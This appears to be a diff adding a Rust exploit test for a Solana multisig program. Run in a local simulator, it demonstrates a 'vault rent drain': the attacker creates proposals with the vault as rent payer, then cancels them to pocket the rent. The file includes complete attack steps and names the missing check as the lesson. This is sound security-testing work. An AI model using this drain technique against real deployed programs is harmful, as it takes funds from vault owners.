@@ -0,0 +1,133 @@
+// Exploit: Vault Rent Drain (Vault Pays Rent Without Consent)
+//
+// Vulnerability: V020 - create_proposal accepts the vault as rent_payer without
+// checking multisig.vault_pays_rent, so the vault reimburses any proposer's rent.
+//
+// Attack: The attacker creates a proposal with rent_payer = vault, then cancels it.
+// The vault paid the rent, but cancel_proposal closes the account to the canceller.
+//
+// Result: Each create/cancel round moves one proposal's rent from the vault to the
+// attacker; repeated, the vault is drained down to its rent-exempt minimum.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{native_token::LAMPORTS_PER_SOL, signature::Signer};
+
+const VAULT_BALANCE: u64 = LAMPORTS_PER_SOL;
+const ROUNDS: u64 = 10;
+
+struct VaultRentDrain;
+
+struct VaultRentDrainState {
+    scenario: MultisigScenario,
+    vault_before: u64,
+    attacker_before: u64,
+}
+
+impl ExploitScenario for VaultRentDrain {
+    type State = VaultRentDrainState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V020",
+            title: "Vault Rent Drain",
+            severity: Severity::High,
+            lesson: "Only let the vault pay proposal rent when the multisig enabled it",
+        }
+    }
+
+    fn setup(&self) -> VaultRentDrainState {
+        println!("[Scenario] Attacker makes the vault pay for proposals it then cancels");
+
+        let mut scenario = setup_multisig_scenario(1, 0);
+        create_basic_multisig(&mut scenario.svm, &scenario.creator, scenario.multisig_id, 0);
+        fund_vault(&mut scenario.svm, &scenario.vault_pda, VAULT_BALANCE);
+        println!("[Setup] Multisig created, vault_pays_rent = false");
+
+        let vault_before = scenario.svm.get_account(&scenario.vault_pda).unwrap().lamports;
+        let attacker_before = scenario
+            .svm
+            .get_account(&scenario.attacker.pubkey())
+            .unwrap()
+            .lamports;
+        println!("[Setup] Vault balance: {} lamports", vault_before);
+
+        VaultRentDrainState {
+            scenario,
+            vault_before,
+            attacker_before,
+        }
+    }
+
+    fn exploit(&self, state: &mut VaultRentDrainState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+        let attacker = scenario.attacker.pubkey();
+        let multisig = scenario.multisig_pda;
+
+        // EXPLOIT: Vault-funded proposal, cancelled back to the attacker, repeated
+        println!("\n[Attack] Attacker runs {} create/cancel rounds with the vault paying", ROUNDS);
+
+        let mut last_result = None;
+        for proposal_id in 0..ROUNDS {
+            let (proposal, _) = derive_proposal_pda(&multisig, proposal_id);
+            let ix = build_create_proposal_ix(
+                &attacker,
+                &multisig,
+                &proposal,
+                ProposalTypeDiscriminator::ChangeTimelock,
+                &proposal_id.to_le_bytes(),
+            );
+            let ix = with_rent_payer(ix, &scenario.vault_pda, false);
+            let result = send_ix(&mut scenario.svm, ix, &scenario.attacker);
+            if result.is_err() {
+                return result;
+            }
+
+            let ix = build_cancel_proposal_ix(&attacker, &multisig, &proposal);
+            let result = send_ix(&mut scenario.svm, ix, &scenario.attacker);
+            if result.is_err() {
+                return result;
+            }
+            last_result = Some(result);
+        }
+        last_result.expect("ROUNDS is non-zero")
+    }
+
+    fn assert_impact(&self, state: &mut VaultRentDrainState) -> u64 {
+        let scenario = &state.scenario;
+        let vault_after = scenario.svm.get_account(&scenario.vault_pda).unwrap().lamports;
+        let attacker_after = scenario
+            .svm
+            .get_account(&scenario.attacker.pubkey())
+            .unwrap()
+            .lamports;
+        let drained = state.vault_before - vault_after;
+        assert!(drained > 0, "Vault should have paid proposal rent");
+
+        // The attacker only paid fees; every round's rent came back to them
+        assert!(attacker_after > state.attacker_before, "Attacker should profit");
+
+        println!("[VULNERABLE] Vault paid rent for {} proposals it never approved!", ROUNDS);
+        println!("[EXPLOIT SUCCESS] Vault drained: {} lamports", drained);
+        println!(
+            "[EXPLOIT SUCCESS] Attacker profit after fees: {} lamports",
+            attacker_after - state.attacker_before
+        );
+
+        println!("\n[Analysis] The vulnerable code is missing this check:");
+        println!("           require!(");
+        println!("               multisig_account.vault_pays_rent,");
+        println!("               MultisigError::VaultRentDisabled");
+        println!("           );");
+
+        drained
+    }
+}
+
+#[test]
+fn test_exploit_vault_rent_drain() {
+    run_exploit(&VaultRentDrain);
+}